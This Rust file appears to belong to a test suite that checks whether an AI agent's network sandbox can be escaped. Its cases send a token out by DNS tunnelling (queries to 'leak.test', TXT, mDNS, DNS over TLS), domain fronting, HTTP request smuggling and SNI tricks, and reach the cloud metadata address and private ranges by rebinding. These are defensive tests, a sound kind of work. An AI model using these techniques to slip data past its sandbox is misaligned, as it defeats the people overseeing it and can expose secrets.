//! Names that carry data, and names that are not what they seem: the resolver answers what is allowed, the proxy goes where it said.

use std::fs;
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

use crate::escape::order::{At, Order, Stop};
use crate::escape::{Case, Class, Trace, Who, dns};

/// Allowed by the connection of the suite's agent.
pub(crate) const ALLOWED: &str = "allowed.test";

pub(super) const CASES: &[Case] = &[
    Case::new(
        "E96",
        "a question to another resolver",
        Class::Names,
        Who::User,
        |order| ask(order, (order.v4, 53).into(), &hidden(order), dns::A),
    ),
    Case::new(
        "E97",
        "a question to another resolver by IPv6",
        Class::Names,
        Who::User,
        |order| ask(order, (order.v6, 53).into(), &hidden(order), dns::A),
    ),
    Case::new(
        "E98",
        "a question to another resolver by TCP",
        Class::Names,
        Who::User,
        |order| {
            let question = dns::question(&hidden(order), dns::A, dns::IN, &[]);
            let mut framed = (question.len() as u16).to_be_bytes().to_vec();
            framed.extend(question);
            stream(order, (order.v4, 53).into(), &framed)
        },
    ),
    Case::new(
        "E99",
        "a name that nobody allows",
        Class::Names,
        Who::User,
        |order| ask(order, resolver()?, &hidden(order), dns::A),
    ),
    Case::new("E100", "TXT", Class::Names, Who::User, |order| {
        ask(order, resolver()?, &hidden(order), dns::TXT)
    }),
    Case::new("E101", "HTTPS", Class::Names, Who::User, |order| {
        ask(order, resolver()?, &below_allowed(order), dns::HTTPS)
    }),
    Case::new("E102", "SVCB", Class::Names, Who::User, |order| {
        ask(order, resolver()?, &below_allowed(order), dns::SVCB)
    }),
    Case::new("E103", "ANY", Class::Names, Who::User, |order| {
        ask(order, resolver()?, &hidden(order), dns::ANY)
    }),
    Case::new(
        "E104",
        "a name below an allowed one",
        Class::Names,
        Who::User,
        |order| ask(order, resolver()?, &below_allowed(order), dns::A),
    ),
    Case::new(
        "E105",
        "an allowed name with an EDNS option",
        Class::Names,
        Who::User,
        |order| {
            let question = dns::question(ALLOWED, dns::AAAA, dns::IN, order.data());
            exchange(resolver()?, &question).map(drop)
        },
    ),
    Case::new("E106", "another class", Class::Names, Who::User, |order| {
        let question = dns::question(&hidden(order), dns::TXT, dns::CHAOS, &[]);
        exchange(resolver()?, &question).map(drop)
    }),
    Case::new(
        "E107",
        "two questions in one message",
        Class::Names,
        Who::User,
        |order| {
            let mut question = dns::question(ALLOWED, dns::A, dns::IN, &[]);
            if let Some(count) = question.get_mut(5) {
                *count = 2;
            }
            question.extend(dns::name(&hidden(order)));
            question.extend([0, 1, 0, 1]);
            exchange(resolver()?, &question).map(drop)
        },
    ),
    Case::new(
        "E108",
        "names of the local link (mDNS)",
        Class::Names,
        Who::User,
        |order| {
            let question = dns::question(&hidden(order), dns::A, dns::IN, &[]);
            UdpSocket::bind("0.0.0.0:0")
                .at("socket")?
                .send_to(&question, "224.0.0.251:5353")
                .at("send")
                .map(drop)
        },
    )
    .seen_by(Trace::Token),
    Case::new(
        "E109",
        "DNS over TLS",
        Class::Names,
        Who::User,
        |order| stream(order, (order.v4, 853).into(), &hello(order, &hidden(order))),
    ),
    Case::new(
        "E110",
        "Host of another name",
        Class::Fronting,
        Who::User,
        |order| http(order, &format!("GET /{} HTTP/1.1\r\nHost: other.test\r\n\r\n", order.token)),
    )
    .seen_by(Trace::Token),
    Case::new(
        "E111",
        "a request target of another name",
        Class::Fronting,
        Who::User,
        |order| {
            http(order, &format!("GET http://other.test/{} HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n", order.token))
        },
    )
    .seen_by(Trace::Token),
    Case::new("E112", "CONNECT", Class::Fronting, Who::User, |order| {
        http(order, &format!("CONNECT {}:443 HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n{}", order.v4, order.token))
    }),
    Case::new(
        "E113",
        "two Hosts",
        Class::Fronting,
        Who::User,
        |order| {
            http(order, &format!("GET /{} HTTP/1.1\r\nHost: {ALLOWED}\r\nHost: other.test\r\n\r\n", order.token))
        },
    )
    .seen_by(Trace::Token),
    Case::new(
        "E114",
        "a smuggled request",
        Class::Fronting,
        Who::User,
        |order| {
            let inner = format!("GET /{} HTTP/1.1\r\nHost: other.test\r\n\r\n", order.token);
            http(order, &format!("GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"))
        },
    )
    .seen_by(Trace::Token),
    Case::new(
        "E115",
        "SNI of another name",
        Class::Fronting,
        Who::User,
        |order| tls(order, &hello(order, &format!("{}.test", order.token))),
    )
    .seen_by(Trace::Token),
    Case::new("E116", "no SNI", Class::Fronting, Who::User, |order| {
        tls(order, &hello(order, ""))
    })
    .seen_by(Trace::Token),
    Case::new(
        "E117",
        "an encrypted ClientHello",
        Class::Fronting,
        Who::User,
        |order| tls(order, &hello(order, ALLOWED)),
    )
    .seen_by(Trace::Token),
    Case::new(
        "E118",
        "neither TLS nor HTTP on an allowed connection",
        Class::Fronting,
        Who::User,
        |order| tls(order, format!("SSH-2.0-{}\r\n", order.token).as_bytes()),
    )
    .seen_by(Trace::Token),
    rebound("E119", "a name that leads to the metadata service", |order| {
        fetch(order, "metadata.test")
    }),
    rebound("E120", "a name that leads to a private network", |order| {
        fetch(order, "private.test")
    }),
    rebound("E121", "a name that leads to a v4-mapped private address", |order| {
        fetch(order, "mapped.test")
    }),
    rebound("E122", "a name that leads to a unique local address", |order| {
        fetch(order, "local6.test")
    }),
    rebound("E123", "a name that leads to shared address space", |order| {
        fetch(order, "shared.test")
    }),
];

const fn rebound(
    id: &'static str,
    name: &'static str,
    attempt: fn(&Order) -> Result<(), Stop>,
) -> Case {
    Case::new(id, name, Class::Fronting, Who::User, attempt).seen_by(Trace::Rebound)
}

/// A name whose first label is the message.
fn hidden(order: &Order) -> String {
    format!("{}.leak.test", order.token)
}

fn below_allowed(order: &Order) -> String {
    format!("{}.{ALLOWED}", order.token)
}

/// The first resolver that this process was told.
fn resolver() -> Result<SocketAddr, Stop> {
    let text = fs::read_to_string("/etc/resolv.conf").at("resolv.conf")?;
    text.lines()
        .find_map(|line| {
            line.strip_prefix("nameserver ")?
                .trim()
                .parse::<IpAddr>()
                .ok()
        })
        .map(|address| SocketAddr::new(address, 53))
        .ok_or_else(|| Stop::because("resolv.conf", "no nameserver"))
}

fn ask(_order: &Order, at: SocketAddr, name: &str, kind: u16) -> Result<(), Stop> {
    let answer = exchange(at, &dns::question(name, kind, dns::IN, &[]))?;
    match dns::code(&answer) {
        0 => Ok(()),
        code => Err(Stop::because("answer", dns::code_name(code))),
    }
}

fn exchange(at: SocketAddr, question: &[u8]) -> Result<Vec<u8>, Stop> {
    let any = if at.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
    let socket = UdpSocket::bind(any).at("socket")?;
    socket
        .set_read_timeout(Some(Duration::from_millis(1500)))
        .at("socket")?;
    socket.connect(at).at("connect")?;
    socket.send(question).at("send")?;
    let mut answer = vec![0; 1500];
    let length = socket.recv(&mut answer).at("answer")?;
    answer.truncate(length);
    Ok(answer)
}

/// The address of a name, as the resolver says.
fn address(name: &str) -> Result<IpAddr, Stop> {
    for kind in [dns::A, dns::AAAA] {
        let answer = exchange(resolver()?, &dns::question(name, kind, dns::IN, &[]))?;
        if let Some(address) = dns::address(&answer) {
            return Ok(address);
        }
    }
    Err(Stop::because("resolve", "no address"))
}

fn stream(_order: &Order, to: SocketAddr, bytes: &[u8]) -> Result<(), Stop> {
    let mut stream = TcpStream::connect_timeout(&to, Duration::from_secs(2)).at("connect")?;
    stream
        .set_read_timeout(Some(Duration::from_secs(3)))
        .at("connect")?;
    stream.write_all(bytes).at("send")?;
    let mut answer = [0; 64];
    let length = stream.read(&mut answer).at("answer")?;
    let text = String::from_utf8_lossy(answer.get(..length).unwrap_or_default()).into_owned();
    match text.split_whitespace().nth(1) {
        _ if length == 0 => Err(Stop::because("answer", "closed")),
        Some(status) if status.len() == 3 => {
            Err(Stop::because("answer", &format!("HTTP {status}")))
        }
        _ => Ok(()),
    }
}

fn http(order: &Order, text: &str) -> Result<(), Stop> {
    stream(order, (address(ALLOWED)?, 80).into(), text.as_bytes())
}

fn tls(order: &Order, bytes: &[u8]) -> Result<(), Stop> {
    stream(order, (address(ALLOWED)?, 443).into(), bytes)
}

fn fetch(order: &Order, name: &str) -> Result<(), Stop> {
    let text = format!("GET /{} HTTP/1.1\r\nHost: {name}\r\n\r\n", order.token);
    let address = match address(name)? {
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(IpAddr::V6(v6), IpAddr::V4),
        v4 => v4,
    };
    stream(order, (address, 80).into(), text.as_bytes())
}

/// The way that must be open: an allowed call, through the proxy, to the far end.
pub(crate) fn allowed(order: &Order) -> Result<(), Stop> {
    fetch(order, ALLOWED)
}

/// A ClientHello (RFC 8446) with the token as session id and in an extension of the kind of encrypted ClientHello; the name, if any, in the clear.
fn hello(order: &Order, name: &str) -> Vec<u8> {
    const SERVER_NAME: u16 = 0;
    const SUPPORTED_VERSIONS: u16 = 43;
    const ENCRYPTED_CLIENT_HELLO: u16 = 0xfe0d;
    let extension = |kind: u16, content: &[u8]| {
        [
            &kind.to_be_bytes()[..],
            &(content.len() as u16).to_be_bytes(),
            content,
        ]
        .concat()
    };
    let mut extensions = extension(SUPPORTED_VERSIONS, &[2, 3, 4]);
    if !name.is_empty() {
        let length = name.len() as u16;
        let list = [
            &(length + 3).to_be_bytes()[..],
            &[0],
            &length.to_be_bytes(),
            name.as_bytes(),
        ]
        .concat();
        extensions.extend(extension(SERVER_NAME, &list));
    }
    extensions.extend(extension(ENCRYPTED_CLIENT_HELLO, order.data()));
    let mut body = vec![3, 3];
    body.extend([7; 32]);
    body.push(order.data().len() as u8);
    body.extend(order.data());
    body.extend([0, 2, 0x13, 1, 1, 0]);
    body.extend((extensions.len() as u16).to_be_bytes());
    body.extend(extensions);
    let mut message = vec![1, 0];
    message.extend((body.len() as u16).to_be_bytes());
    message.extend(body);
    let mut record = vec![22, 3, 1];
    record.extend((message.len() as u16).to_be_bytes());
    record.extend(message);
    record
}

/// Where the names of the last cases lead, beyond the wire.
pub(crate) const REBOUND: [(&str, IpAddr); 5] = [
    (
        "metadata.test",
        IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254)),
    ),
    ("private.test", IpAddr::V4(Ipv4Addr::new(10, 99, 0, 1))),
    (
        "mapped.test",
        IpAddr::V6(Ipv4Addr::new(10, 99, 0, 2).to_ipv6_mapped()),
    ),
    (
        "local6.test",
        IpAddr::V6(std::net::Ipv6Addr::new(0xfd99, 0, 0, 0, 0, 0, 0, 1)),
    ),
    ("shared.test", IpAddr::V4(Ipv4Addr::new(100, 100, 0, 1))),
];
